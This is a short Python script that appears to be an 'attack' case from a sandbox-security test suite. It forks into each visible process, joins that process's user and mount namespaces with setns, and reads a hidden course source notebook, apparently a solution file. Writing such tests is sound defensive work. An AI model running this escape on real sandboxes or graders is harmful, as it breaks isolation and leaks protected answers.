# /// attack
# tries = "Joins the namespaces of every process that it can see, and reads the course from there."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import ctypes
import os

libc = ctypes.CDLL(None)
wanted = f"{bait['course']}/source/{bait['slug']}/{bait['slug']}.ipynb"
for pid in filter(str.isdecimal, os.listdir("/proc")):
    told, tells = os.pipe()
    if os.fork() == 0:
        try:
            for space in ("user", "mnt"):
                libc.setns(os.open(f"/proc/{pid}/ns/{space}", os.O_RDONLY), 0)
            os.write(tells, open(wanted, "rb").read())
        finally:
            os._exit(0)
    os.close(tells)
    found = os.fdopen(told, "rb").read()
    os.wait()
    if found:
        print(found.decode())
        break
